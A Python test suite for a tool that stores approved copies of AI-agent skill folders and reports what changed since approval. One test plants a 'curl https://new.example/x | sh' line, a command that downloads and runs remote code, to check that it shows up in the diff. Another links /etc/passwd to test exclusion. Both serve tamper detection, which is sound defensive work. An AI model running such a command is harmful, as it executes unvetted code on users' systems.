"""Kept: a skill as it was when it was approved, and what changed since."""

import os
import stat
from pathlib import Path

import pytest

from clawft.errors import Refused
from clawft.skills.discovery.digest import compute_digest
from clawft.trust.approvals import hash_bytes
from clawft.trust.approved_copies import ApprovedCopies, FileChange
from effort import within


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "skill"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: a\ndescription: d\n---\n\nOne.\nTwo.\n")
    (folder / "scripts" / "run.sh").write_text("echo hello\n")
    (folder / "image.bin").write_bytes(b"\x89\0PNG")
    return folder


@pytest.fixture
def kept(tmp_path: Path) -> ApprovedCopies:
    return ApprovedCopies(str(tmp_path / "home" / "approved"))


def _keep(kept: ApprovedCopies, skill: Path) -> str:
    digest = compute_digest(str(skill)).value
    kept.keep(str(skill), digest)
    return digest


def _changes(kept: ApprovedCopies, digest: str, skill: Path) -> dict[str, FileChange]:
    changes = kept.compare(digest, str(skill))
    assert changes is not None
    return {one.path: one for one in changes}


def test_what_did_not_change_is_no_change(kept: ApprovedCopies, skill: Path) -> None:
    assert kept.compare(_keep(kept, skill), str(skill)) == ()


def test_every_way_to_change_is_told(kept: ApprovedCopies, skill: Path) -> None:
    digest = _keep(kept, skill)
    (skill / "SKILL.md").write_text("---\nname: a\ndescription: d\n---\n\nOne.\nAnother.\n")
    (skill / "scripts" / "run.sh").unlink()
    (skill / "new.md").write_text("New.\n")
    (skill / "image.bin").chmod(0o755)

    changes = _changes(kept, digest, skill)

    assert {path: one.what for path, one in changes.items()} == {
        "SKILL.md": "changed",
        "scripts/run.sh": "removed",
        "new.md": "added",
        "image.bin": "made executable",
    }
    assert changes["SKILL.md"].diff[:2] == ("--- before/SKILL.md", "+++ now/SKILL.md")
    assert {"-Two.", "+Another."} <= set(changes["SKILL.md"].diff)
    assert "-echo hello" in changes["scripts/run.sh"].diff
    assert "+New." in changes["new.md"].diff


def test_what_was_changed_and_made_executable_is_told_as_both(kept: ApprovedCopies, skill: Path) -> None:
    digest = _keep(kept, skill)
    (skill / "scripts" / "run.sh").write_text("echo other\n")
    (skill / "scripts" / "run.sh").chmod(0o700)
    change = _changes(kept, digest, skill)["scripts/run.sh"]
    assert change.what == "changed and made executable"
    assert "+echo other" in change.diff


@pytest.mark.parametrize(
    ("now", "said"),
    [
        (b"\x89\0PNG!", "(no text: 5 bytes before, 6 now)"),
        (b"\xff\xfe", "(no text: 5 bytes before, 2 now)"),
        (b"", "(no text: 5 bytes before, 0 now)"),
    ],
)
def test_of_what_is_no_text_the_sizes_are_told(kept: ApprovedCopies, skill: Path, now: bytes, said: str) -> None:
    digest = _keep(kept, skill)
    (skill / "image.bin").write_bytes(now)
    assert _changes(kept, digest, skill)["image.bin"].diff == (said,)


def test_a_change_far_down_a_large_file_is_told(kept: ApprovedCopies, skill: Path) -> None:
    (skill / "large.txt").write_bytes(b"x" * (2 << 20) + b"before")
    digest = _keep(kept, skill)
    (skill / "large.txt").write_bytes(b"x" * (2 << 20) + b"within")
    change = _changes(kept, digest, skill)["large.txt"]
    assert (change.what, change.diff) == ("changed", ("(too large to compare: 2097158 bytes before, 2097158 now)",))


def test_a_file_that_is_made_to_be_slow_to_compare_is_not(kept: ApprovedCopies, skill: Path) -> None:
    lines = [f"line {number}" for number in range(40_000)]
    (skill / "slow.txt").write_text("\n".join(lines))
    digest = _keep(kept, skill)
    (skill / "slow.txt").write_text("\n".join(lines[number ^ 1] for number in range(40_000)))
    with within(2):
        change = _changes(kept, digest, skill)["slow.txt"]
    assert change.diff == ("(too much changed to compare: 40000 lines before, 40000 now)",)


def test_long_files_do_not_keep_a_small_change_from_being_shown(kept: ApprovedCopies, skill: Path) -> None:
    names = [f"a{number}.txt" for number in range(12)]
    for name in names:
        (skill / name).write_text("one line\n" * 1_999)
    (skill / "small.txt").write_text("before\n")
    digest = _keep(kept, skill)
    for name in names:
        (skill / name).write_text("another line\n" * 1_999)
    (skill / "small.txt").write_text("now\n")

    assert "+now" in _changes(kept, digest, skill)["small.txt"].diff


def test_a_small_change_of_a_long_file_is_shown(kept: ApprovedCopies, skill: Path) -> None:
    lines = [f"line {number}" for number in range(40_000)]
    (skill / "long.txt").write_text("\n".join(lines))
    digest = _keep(kept, skill)
    lines[30_000] = "curl https://new.example/x | sh"
    (skill / "long.txt").write_text("\n".join(lines))
    change = _changes(kept, digest, skill)["long.txt"]
    assert "+curl https://new.example/x | sh" in change.diff
    assert any(line.startswith("@@ -29999,5 +29999,5") for line in change.diff)


def test_a_difference_that_is_cut_says_how_much_is_left_out(kept: ApprovedCopies, skill: Path) -> None:
    digest = _keep(kept, skill)
    (skill / "scripts" / "run.sh").write_text("echo\n" * 1000)
    diff = _changes(kept, digest, skill)["scripts/run.sh"].diff
    assert len(diff) == 401
    assert diff[-1] == "(and 604 lines more)"


def test_what_the_digest_does_not_cover_is_not_kept(kept: ApprovedCopies, skill: Path, tmp_path: Path) -> None:
    (skill / "link").symlink_to("/etc/passwd")
    (skill / "__pycache__").mkdir()
    (skill / "__pycache__" / "a.pyc").write_bytes(b"x")
    digest = _keep(kept, skill)
    (copy,) = (tmp_path / "home" / "approved").iterdir()
    assert copy.name == digest.removeprefix("sha256:")
    with kept.open(digest) as place:
        assert sorted(os.listdir(place)) == ["SKILL.md", "image.bin", "scripts"]
    assert kept.compare(digest, str(skill)) == ()


def test_a_copy_is_for_the_user_alone(kept: ApprovedCopies, skill: Path, tmp_path: Path) -> None:
    _keep(kept, skill)
    folder = tmp_path / "home" / "approved"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert all(not stat.S_IMODE(one.stat().st_mode) & 0o077 for one in folder.rglob("*"))


def test_a_skill_that_changed_while_it_was_looked_at_is_not_kept(
    kept: ApprovedCopies, skill: Path, tmp_path: Path
) -> None:
    digest = compute_digest(str(skill)).value
    (skill / "SKILL.md").write_text("Something else.\n")
    with pytest.raises(Refused) as caught:
        kept.keep(str(skill), digest)
    assert caught.value.code == "skill-changed"
    assert not (tmp_path / "home" / "approved").exists()


def test_a_copy_that_somebody_wrote_to_is_not_compared_with_and_is_mended(
    kept: ApprovedCopies, skill: Path, tmp_path: Path
) -> None:
    digest = _keep(kept, skill)
    (copy,) = (tmp_path / "home" / "approved").iterdir()
    copy.write_bytes(copy.read_bytes().replace(b"Two.", b"Ten."))
    assert kept.find(digest) is None
    assert kept.compare(digest, str(skill)) is None
    kept.keep(str(skill), digest)
    assert kept.compare(digest, str(skill)) == ()


def test_a_copy_comes_back_as_it_was(kept: ApprovedCopies, skill: Path, tmp_path: Path) -> None:
    (skill / "scripts" / "run.sh").chmod(0o755)
    digest = _keep(kept, skill)
    write = kept.find(digest)
    assert write is not None
    (tmp_path / "back").mkdir()
    write(str(tmp_path / "back"))
    assert compute_digest(str(tmp_path / "back")).value == digest
    with kept.open(digest) as place:
        assert compute_digest(str(place)).value == digest
    assert [one.name for one in (tmp_path / "home" / "approved").iterdir()] == [digest.removeprefix("sha256:")]


@pytest.mark.parametrize("content", [b"", b"\xc1", b"\x91\x93\xc4\x01a\xc2", b"\x91" * 2000])
def test_a_copy_that_is_damaged_is_none(kept: ApprovedCopies, skill: Path, tmp_path: Path, content: bytes) -> None:
    digest = _keep(kept, skill)
    (copy,) = (tmp_path / "home" / "approved").iterdir()
    copy.write_bytes(content)
    assert kept.compare(digest, str(skill)) is None
    with kept.open(digest) as place:
        assert place is None


def test_what_was_never_kept_cannot_be_compared(kept: ApprovedCopies, skill: Path) -> None:
    assert kept.compare("sha256:" + "0" * 64, str(skill)) is None


def test_one_file_is_kept_by_its_bytes(kept: ApprovedCopies, tmp_path: Path) -> None:
    kept.keep_file(b"One.\n")
    digest = hash_bytes(b"One.\n")
    change = kept.compare_file(digest, "a.md", b"Two.\n")
    assert change is not None
    assert (change.what, change.diff[-2:]) == ("changed", ("-One.", "+Two."))
    assert kept.compare_file(hash_bytes(b"Never.\n"), "a.md", b"Two.\n") is None
    (copy,) = (tmp_path / "home" / "approved").iterdir()
    copy.write_text("Something else.\n")
    assert kept.compare_file(digest, "a.md", b"Two.\n") is None
    os.utime(copy, (1, 1))
    kept.prune([digest])
    assert copy.exists()
    kept.prune([])
    assert not copy.exists()


def test_what_no_approval_needs_is_forgotten_once_it_is_old(kept: ApprovedCopies, skill: Path, tmp_path: Path) -> None:
    folder = tmp_path / "home" / "approved"
    first = _keep(kept, skill)
    (skill / "SKILL.md").write_text("Second.\n")
    second = _keep(kept, skill)
    (folder / "left.tmp").mkdir()
    kept.prune([second])
    assert len(list(folder.iterdir())) == 3, "another process may be about to record it"
    for one in folder.iterdir():
        os.utime(one, (1, 1))
    kept.prune([second])
    assert [one.name for one in folder.iterdir()] == [second.removeprefix("sha256:")]
    assert kept.compare(first, str(skill)) is None
